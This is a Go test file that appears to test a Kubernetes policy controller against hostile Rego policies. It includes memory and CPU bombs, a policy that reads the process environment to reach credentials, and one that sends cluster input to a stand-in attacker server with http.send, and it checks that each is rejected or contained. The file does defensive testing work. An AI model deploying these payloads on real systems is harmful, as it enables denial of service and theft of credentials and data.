package attack

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	karpv1 "spokeshave.dev/api/karpenter/v1"
)

// rank is a rank policy that has an opinion.
const rank = "package spokeshave.rank\nmultiplier[\"x\"] := 1.1 if input.offering.arch == \"arm64\"\n"

// authorAttacks are policies that harm the process that compiles or asks them.
func authorAttacks() map[string]attack {
	const keeps = "the controller's memory, the process that answers, the version in force"
	return map[string]attack{
		"author/bomb-in-compiler": {
			story: "a policy takes all memory when it is compiled", want: "it is rejected and says so", keeps: keeps, memory: true,
			run: atLoad("bomb-compile", map[string]string{"p.rego": "package spokeshave.rank\n" + doubled("[1, 1]") + "exclude contains \"x\" if json.marshal(a40) == input.offering.zone\n"}),
		},
		"author/bomb-in-test": {
			story: "a policy's own test takes all memory", want: "it is rejected and says so", keeps: keeps, memory: true,
			run: atLoad("bomb-test", map[string]string{"p.rego": rank, "p_test.rego": "package spokeshave.rank\n" + doubled("[1, 1]") + "test_a if json.marshal(a40) == \"\"\n"}),
		},
		"author/bomb-in-parser": {
			story: "a policy nests brackets 60,000 deep", want: "it is rejected and says so", keeps: keeps, memory: true,
			run: atLoad("bomb-parse", map[string]string{"p.rego": "package spokeshave.rank\nx := " + strings.Repeat("[", 60_000) + strings.Repeat("]", 60_000) + "\n" + rank}),
		},
		"author/endless-test": {
			story: "a policy's own test takes a day of processor time", want: "it is rejected at its limit of time", keeps: keeps, memory: true,
			run: atLoad("endless-test", map[string]string{
				"p.rego":      rank,
				"p_test.rego": "package spokeshave.rank\ntest_a if count([1 | some i in numbers.range(1, 100000); some j in numbers.range(1, 100000); i * j == 7]) == 1\n",
			}),
		},
		"author/bomb-when-asked": {
			story: "a policy takes all memory whenever it is asked", want: "its pods get nodes, it is named, the other policy is obeyed",
			keeps: "the controller's memory, answers of other policies", memory: true, launches: true,
			run: whenAsked("s := concat(\"\", [\"abcdefghijklmnop\" | some i in numbers.range(1, 20000000 + input.pool.pendingPods)]); contains(s, input.offering.zone)"),
		},
		"author/endless-answer": {
			story: "a policy computes for hours whenever it is asked", want: "its deadline ends it, pods get nodes, the other policy is obeyed",
			keeps: "the controller's memory, answers of other policies", memory: true, launches: true,
			run: whenAsked("some i in numbers.range(1, 4000 + input.pool.pendingPods); some j in numbers.range(1, 4000); some k in numbers.range(1, 4000); i * j * k == -7"),
		},
		"author/reads-environment": {
			story: "a policy answers with the environment of its process, to find credentials", want: "it is rejected, since it reads what is not its",
			keeps: "credentials",
			run: refusedAtLoad("environment", map[string]string{
				"p.rego": "package spokeshave.rank\nexclude contains json.marshal(opa.runtime().env) if input.offering.arch == \"arm64\"\n",
			}, "opa.runtime"),
		},
		"author/calls-out": {
			story: "a policy sends what it is asked to a server of the attacker", want: "nothing arrives",
			keeps: "what pods and nodes there are is known to nobody else", run: callsOut,
		},
		"author/many-policies": {
			story: "somebody applies thirty policies at once, each of which takes megabytes of data", want: "all are judged, and pods get nodes",
			keeps: "the controller's memory beyond what policies may have", launches: true, run: manyPolicies,
		},
	}
}

// atLoad applies a good version of a policy, and then files that have to be rejected.
func atLoad(policy string, files map[string]string) func(*testing.T) {
	return func(t *testing.T) {
		install(t, policy, "hooks: [rank]\n", map[string]string{"p.rego": rank})
		status(t, policy, "Active")
		restarts := number(t, "spokeshave_policy_process_restarts_total", "")
		apply(t, policy, "hooks: [rank]\n", files)
		status(t, policy, "Rejected")
		status(t, policy, "stays in force")
		if now := number(t, "spokeshave_policy_process_restarts_total", ""); now != restarts {
			t.Errorf("the process that answers was started again %v times", now-restarts)
		}
	}
}

// whenAsked applies a rank policy whose only rule has a condition that harms, beside one
// that permits arm64 alone.
func whenAsked(condition string) func(*testing.T) {
	return func(t *testing.T) {
		serve(t) // what the controller takes for its work, it takes once
		install(t, "heard", "hooks: [rank]\npriority: 200\n", map[string]string{"p.rego": "package spokeshave.rank\nexclude contains \"not arm\" if input.offering.arch != \"arm64\"\n"})
		install(t, "bomb", "hooks: [rank]\npriority: 50\n", map[string]string{"p.rego": "package spokeshave.rank\nexclude contains \"x\" if { " + condition + " }\n"})
		status(t, "heard", "Active")
		status(t, "bomb", "Active")
		faults, denied := number(t, "spokeshave_policy_faults_total", `policy="bomb"`), number(t, "spokeshave_policy_denied_total", `policy="heard"`)
		others := number(t, "spokeshave_policy_faults_total", `policy="heard"`)
		work(t, 2)
		// It ends its process, or is stopped before, by the deadline: that depends on the machine.
		if number(t, "spokeshave_policy_faults_total", `policy="bomb"`) == faults {
			t.Error("the bomb has no faults")
		}
		if n := number(t, "spokeshave_policy_faults_total", `policy="heard"`); n != others {
			t.Errorf("the other policy has %v faults", n-others)
		}
		if number(t, "spokeshave_policy_denied_total", `policy="heard"`) == denied {
			t.Error("the other policy was not heard")
		}
		nodes := &corev1.NodeList{}
		if err := stack.Client.List(t.Context(), nodes); err != nil {
			t.Fatal(err)
		}
		for i := range nodes.Items {
			labels := nodes.Items[i].Labels
			if labels[karpv1.LabelNodePool] == "general" && labels[corev1.LabelArchStable] != "arm64" {
				t.Errorf("node %s is %s: the other policy was not obeyed", nodes.Items[i].Name, labels[corev1.LabelArchStable])
			}
		}
		work(t, 0)
	}
}

// refusedAtLoad applies a new policy that has to be rejected, and wants its status to say why.
func refusedAtLoad(policy string, files map[string]string, why string) func(*testing.T) {
	return func(t *testing.T) {
		install(t, policy, "hooks: [rank]\n", files)
		status(t, policy, "Rejected")
		status(t, policy, why)
	}
}

// callsOut has a policy send what it knows to a server, which nobody may reach.
func callsOut(t *testing.T) {
	reached := make(chan struct{}, 100)
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached <- struct{}{} }))
	defer server.Close()
	call := "http.send({\"method\": \"post\", \"url\": \"" + server.URL + "\", \"body\": input, \"raise_error\": false})"
	refusedAtLoad("calls-out", map[string]string{
		"p.rego":      "package spokeshave.rank\nexclude contains \"x\" if " + call + ".status_code == 418\n",
		"p_test.rego": "package spokeshave.rank\ntest_a if " + call + ".status_code == 200\n",
	}, "http.send")(t)
	if len(reached) > 0 {
		t.Errorf("the policy has reached the server %d times", len(reached))
	}
}

// manyPolicies applies thirty policies with half a megabyte of data each.
func manyPolicies(t *testing.T) {
	const many, budget = 30, 400 << 20
	before := settledMemory(t)
	data := "{\"names\": [" + strings.Repeat("\"0123456789abcdef\",", 25_000) + "\"end\"]}"
	for i := range many {
		install(t, fmt.Sprintf("crowd-%02d", i), "hooks: [rank]\n", map[string]string{"p.rego": rank, "data.json": data})
	}
	for i := range many {
		until(t, "each policy to be judged", func(ctx context.Context) (string, bool) {
			got, err := stack.PolicyStatus(ctx, fmt.Sprintf("crowd-%02d", i))
			return fmt.Sprint(got, err), strings.Contains(got, "Active") || strings.Contains(got, "Rejected")
		})
	}
	serve(t)
	if grew(t, before) > budget {
		t.Error("the controller grew by more than its budget")
	}
}
